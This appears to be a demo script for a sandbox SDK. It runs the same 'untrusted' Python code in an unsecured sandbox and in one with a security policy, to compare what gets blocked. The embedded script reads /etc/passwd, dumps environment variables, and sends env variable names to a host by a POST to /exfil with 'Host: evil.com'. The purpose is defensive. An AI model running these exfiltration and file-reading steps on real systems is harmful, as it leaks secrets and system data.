"""Secured vs unsecured sandbox: the same untrusted script in both.

The seed example, verbatim. The two network targets of the untrusted script
can be changed with DECLAW_SEED_TARGET_1 / DECLAW_SEED_TARGET_2 (defaults:
the seed's 1.1.1.1 and 93.184.216.34); nothing else in the script changes.

Needs DECLAW_API_KEY and DECLAW_DOMAIN in the environment.
"""

import os

UNTRUSTED_SCRIPT = """\
import os, json, socket

# Test 1: Read /etc/passwd
try:
    with open("/etc/passwd") as f:
        lines = f.read().strip().split("\\n")
    print(f"Test 1 (read /etc/passwd): Read {len(lines)} lines")
except Exception as e:
    print(f"Test 1 (read /etc/passwd): FAILED ({e})")

# Test 2: Access environment variables
env_vars = dict(os.environ)
print(f"Test 2 (env vars): Found {len(env_vars)} variables")
for key in sorted(env_vars.keys())[:5]:
    print(f"  {key}={env_vars[key][:40]}")

# Test 3: Write to /tmp
try:
    with open("/tmp/untrusted_output.txt", "w") as f:
        f.write("data from untrusted code")
    print("Test 3 (write /tmp): Write succeeded")
except Exception as e:
    print(f"Test 3 (write /tmp): FAILED ({e})")

# Test 4: Network connectivity
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(("1.1.1.1", 80))
    s.close()
    print("Test 4 (network): CONNECTED")
except Exception as e:
    print(f"Test 4 (network): BLOCKED ({e})")

# Test 5: Exfiltrate data
stolen = json.dumps({"env": list(env_vars.keys())[:3]})
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(("93.184.216.34", 80))
    s.sendall(f"POST /exfil HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n{stolen}".encode())
    s.close()
    print("Test 5 (exfiltrate): Data sent")
except Exception as e:
    print(f"Test 5 (exfiltrate): BLOCKED ({e})")
"""

UNTRUSTED_SCRIPT = UNTRUSTED_SCRIPT.replace(
    '"1.1.1.1"', '"' + os.environ.get("DECLAW_SEED_TARGET_1", "1.1.1.1") + '"'
).replace(
    '"93.184.216.34"', '"' + os.environ.get("DECLAW_SEED_TARGET_2", "93.184.216.34") + '"'
)

from declaw import Sandbox

unsecured_sbx = Sandbox.create(template="python", timeout=300)

from declaw import Sandbox, SecurityPolicy, PIIConfig, InjectionDefenseConfig, AuditConfig

secured_policy = SecurityPolicy(
    pii=PIIConfig(
        enabled=True,
        types=["email", "ssn", "credit_card", "api_key"],
        action="redact",
    ),
    injection_defense=InjectionDefenseConfig(
        enabled=True,
        sensitivity="high",
        action="block",
    ),
    audit=AuditConfig(
        enabled=True,
        log_request_body=True,
        log_response_body=True,
    ),
)

secured_sbx = Sandbox.create(
    template="python",
    timeout=300,
    security=secured_policy,
    allow_internet_access=False,
)

def run_in_sandbox(sbx: Sandbox) -> str:
    sbx.files.write("/tmp/untrusted.py", UNTRUSTED_SCRIPT)
    result = sbx.commands.run("python3 /tmp/untrusted.py", timeout=20)
    return result.stdout

try:
    print("--- UNSECURED Sandbox ---")
    print(run_in_sandbox(unsecured_sbx))

    print("--- SECURED Sandbox ---")
    print(run_in_sandbox(secured_sbx))
finally:
    unsecured_sbx.kill()
    secured_sbx.kill()
